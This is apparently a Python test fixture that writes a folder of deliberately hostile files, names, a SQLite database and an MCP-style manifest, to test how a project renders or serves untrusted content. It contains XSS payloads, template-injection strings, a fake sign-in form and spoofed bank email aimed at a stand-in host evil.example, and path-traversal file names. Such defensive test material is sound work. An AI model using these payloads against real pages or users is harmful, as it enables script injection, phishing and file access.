"""Documents, rows, names and a manifest that try to run, load, phish, cover, break out and hide.

All markup of theirs is marked: an element or attribute `evil` on a page shows that text became
markup, before a policy of the browser had to stop it.
"""

from __future__ import annotations

import json
import os
import sqlite3
from collections.abc import Mapping
from email.message import EmailMessage
from pathlib import Path
from typing import Any

from tests.conversion.formats.zipped import zipped
from tests.conversion.samples.pages import placed_pdf

ROOT = Path(__file__).parents[2]
FOREIGN = "https://evil.example"
RUN = f"document.documentElement.setAttribute('evil',1);fetch('{FOREIGN}');alert(1)"
CALCULATED = "1337"
"""Result of a template in a text, if a page runs it."""
TEXTS = (
    f"<script evil>{RUN}</script>",
    f'<img evil src=x onerror="{RUN}">',
    f'"><svg evil onload="{RUN}">',
    f"' autofocus tabindex=1 onfocus={RUN} evil='",
    "</td></tr></table></div></main><div evil style='position:fixed;inset:0'>Your session ended",
    f"</title></textarea></style></script><iframe evil src={FOREIGN}></iframe>",
    f"<form evil action={FOREIGN}><input evil name=password><button>Sign in",
    f"<base evil href={FOREIGN}><meta evil http-equiv=refresh content='0;url={FOREIGN}'>",
    f"<link evil rel=stylesheet href={FOREIGN}/x.css><style evil>*{{display:none}}</style>",
    f"<a evil id=main name=address href={FOREIGN}>Start</a>",
    f"javascript:{RUN}",
    f"data:text/html,<script evil>{RUN}</script>",
    "{{ 7*191 }}{% raw %}${7*191}<%= 7*191 %>",
    "&lt;script evil&gt;&#60;img evil src=x onerror=alert(1)&#62;",
    "<!-- <![CDATA[ evil",
    "\u202egnp.exe\u2066\u200b\ufeff\u2028\x1b[2J\x85",
    "..%5cx",
    "%2e%2e",
)
NAMES = (
    *(each.replace("/", "\N{DIVISION SLASH}")[:120] for each in TEXTS),
    "a..%5cx",
    "a?b#c;d&e=f",
    "a\\..\\b",
    "100%",
    "%zz",
    "C:",
    "~a",
    "a, b+c",
    "line\nend",
    "n" * 200,
)
MARKDOWN = "\n\n".join(
    (
        f"# {TEXTS[1]}",
        *TEXTS,
        *(
            f"[run]({each}) ![run]({each})"
            for each in (
                f"javascript:{RUN}",
                "JaVa\tScRiPt:alert(1)",
                "&#106;avascript:alert(1)",
                "\x01javascript:alert(1)",
                "vbscript:alert(1)",
                "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
                "data:image/svg+xml,<svg/onload=alert(1)>",
                f"{FOREIGN}/x.png",
                "//evil.example/x.png",
                "\\\\evil.example/x.png",
                "/\\evil.example/x.png",
                "https:evil.example",
                "../../../explore/sign-out",
                "file:///project/../../tools",
                "/mcp",
                "?a=b&a=c",
                "#main",
                "picture.svg",
                "run.html",
                "..%255cx",
            )
        ),
        f'[x]: <javascript:{RUN}> "\'><img evil src=x onerror=alert(1)>"\n\n[x] ![x]',
        f'![" onerror="{RUN}]({FOREIGN}/x.png "x\\" onload=\\"{RUN}")',
        f'<{FOREIGN}/"onmouseover="{RUN}> <javascript:alert(1)>',
        f'``` html" onload="{RUN}\n{TEXTS[0]}\n```',
        f"| {TEXTS[1]} | b |\n|:-:|--|\n| {TEXTS[4]} | ` {TEXTS[2]} ` |",
        "> " * 200 + "deep",
        "<details evil open ontoggle=alert(1)><math evil><mtext></mtext></math>",
    )
)
_SVG = (
    f"<svg xmlns='http://www.w3.org/2000/svg' onload=\"{RUN}\">{TEXTS[0]}"
    f"<image href='{FOREIGN}'/></svg>"
)
_HTML = f'<!doctype html><title>{TEXTS[0]}</title><body onload="{RUN}">{"".join(TEXTS)}'


def _mail() -> bytes:
    message = EmailMessage()
    message["From"] = '"Your bank <script evil>alert(1)</script>" <bank@evil.example>'
    message["Subject"] = TEXTS[1]
    message.set_content(MARKDOWN)
    message.add_alternative(_HTML, subtype="html")
    message.add_attachment(b"x", maintype="text", subtype="html", filename=f"{TEXTS[1]}.html")
    return message.as_bytes()


def _notebook() -> bytes:
    output = {"text/html": _HTML, "image/svg+xml": _SVG, "text/markdown": MARKDOWN}
    data = {"application/javascript": RUN, "text/plain": TEXTS[0], **output}
    shown = {"output_type": "display_data", "metadata": {}, "data": data}
    code = {"source": TEXTS[0], "execution_count": 1, "outputs": [shown]}
    cells: list[dict[str, Any]] = [
        {"cell_type": "markdown", "metadata": {}, "source": MARKDOWN},
        {"cell_type": "code", "metadata": {}, **code},
    ]
    kernel = {"kernelspec": {"name": TEXTS[2], "language": TEXTS[1]}}
    return json.dumps(
        {"nbformat": 4, "nbformat_minor": 5, "metadata": kernel, "cells": cells}
    ).encode()


def _pdf() -> bytes:
    lines = [each for each in TEXTS if each.isascii() and each.isprintable()]
    escaped = [each.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)") for each in lines]
    return placed_pdf([[(10.0, 700.0 - 20 * at, each) for at, each in enumerate(escaped)]])


def _documents() -> Mapping[str, bytes]:
    return {
        "README.md": MARKDOWN.encode(),
        "run.html": _HTML.encode(),
        "run.xhtml": f"<html xmlns='http://www.w3.org/1999/xhtml'>{TEXTS[0]}</html>".encode(),
        "run.xml": f"<?xml-stylesheet href='{FOREIGN}'?><a>{TEXTS[0]}</a>".encode(),
        "picture.svg": _SVG.encode(),
        "fake.png": _HTML.encode(),
        "fake.pdf": _HTML.encode(),
        "run.js": f"{RUN}//{TEXTS[0]}".encode(),
        "run.css": f"@import '{FOREIGN}';*{{position:fixed}}{TEXTS[5]}".encode(),
        "run.json": json.dumps({each: each for each in TEXTS}).encode(),
        "run.csv": "\n".join(
            f'"{each.replace(chr(34), chr(34) * 2)}",b' for each in TEXTS
        ).encode(),
        "run.ipynb": _notebook(),
        "run.eml": _mail(),
        "run.pdf": _pdf(),
        "run.zip": zipped({**dict.fromkeys(NAMES, "a"), "../../up.md": MARKDOWN}),
        "bytes.bin": bytes(range(256)),
        "live.md": b"quiet",
    }


def _quoted(name: str) -> str:
    return '"' + name.replace('"', '""') + '"'


def _make_database(file: Path) -> None:
    names = [each.replace("\x85", "") for each in NAMES]
    with sqlite3.connect(file) as database:
        columns = ", ".join(map(_quoted, names))
        database.execute(f"create table hostile (id text primary key, {columns})")
        for key in (*names, "..", ".", "", "~", "a/b", "\0a"):
            row = [key, *(TEXTS[(len(key) + at) % len(TEXTS)] for at in range(len(names)))]
            holders = ", ".join("?" * len(row))
            database.execute(f"insert into hostile values ({holders})", row)  # noqa: S608
        for name in names[:6]:
            # Few values, which become facets, and a name for links along the foreign key.
            kind = f"{_quoted('count' if name == names[0] else f'kind {name}')} text"
            database.execute(
                f"create table {_quoted(name)} (id integer primary key, name text, {kind}, "
                "parent text references hostile (id))"
            )
            for number in range(1, 13):
                row = (number, TEXTS[number % 6], TEXTS[number % 3], names[number])
                database.execute(f"insert into {_quoted(name)} values (?, ?, ?, ?)", row)  # noqa: S608
    database.close()


def _manifest() -> Mapping[str, Any]:
    markup, script = TEXTS[4], TEXTS[0]
    parameter = {"description": script, "max_length": 2000}
    query = {"title": TEXTS[1], "description": markup, "sql": "select :given as given, 1 as n"}
    return {
        "server": {"title": TEXTS[1], "instructions": markup},
        "roots": {
            "project": {
                "path": "project",
                "title": TEXTS[2],
                "description": markup,
                "directories": {"closed": {"readable": False, "title": TEXTS[6]}},
                "exclude": ["secret*"],
            }
        },
        "providers": {
            "archive": {
                "use": str(ROOT / "plugins/archive.py"),
                "uri": "archive://a/",
                "archive": "project/run.zip",
                "title": TEXTS[3],
            }
        },
        "databases": {
            "data": {
                "url": "sqlite:///data.db",
                "title": TEXTS[5],
                "description": script,
                "tables": {"hostile": {"title": TEXTS[2], "description": markup}},
                "queries": {"q": {**query, "parameters": {"given": parameter}}},
            }
        },
        "prompts": {
            "p": {
                "title": TEXTS[1],
                "description": script,
                "arguments": {"a": {"description": markup, "required": True}},
                "messages": [{"role": "user", "text": f"{script} {{a}}"}],
            }
        },
    }


def make_hostile(place: Path) -> Path:
    """Write everything hostile into a folder; return the manifest's file."""
    folder = place / "project"
    for directory in (folder, folder / "closed", folder / NAMES[1], folder / "named"):
        directory.mkdir()
    for name, data in _documents().items():
        (folder / name).write_bytes(data)
    (folder / NAMES[1] / "README.md").write_text(MARKDOWN, "utf-8")
    for name in NAMES:
        (folder / "named" / f"{name}.md").write_text(MARKDOWN[:2000], "utf-8")
    (folder / "closed" / f"{NAMES[2]}.png").write_bytes(b"closed")
    (folder / "secret <script evil>").write_bytes(b"hidden")
    Path(os.fsdecode(os.fsencode(folder / "named") + b"/\xff\xfe.md")).write_text("a", "utf-8")
    _make_database(place / "data.db")
    file = place / "mcp-resources.yaml"
    file.write_text(json.dumps(_manifest()), encoding="utf-8")
    return file
